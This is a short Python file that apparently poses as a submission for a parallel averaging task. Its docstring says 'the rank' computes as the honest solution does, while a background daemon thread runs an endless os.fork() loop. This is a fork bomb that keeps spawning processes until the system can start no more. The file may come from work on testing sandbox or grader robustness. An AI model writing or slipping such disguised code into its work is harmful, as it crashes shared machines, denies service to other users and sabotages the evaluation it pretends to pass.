"""Forks from a thread beside the rank's work, every child forking on too, until no more processes may
start; the rank computes as the honest solution does. Imitates: averages."""

import os
import threading
import time


def _bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


threading.Thread(target=_bomb, daemon=True).start()
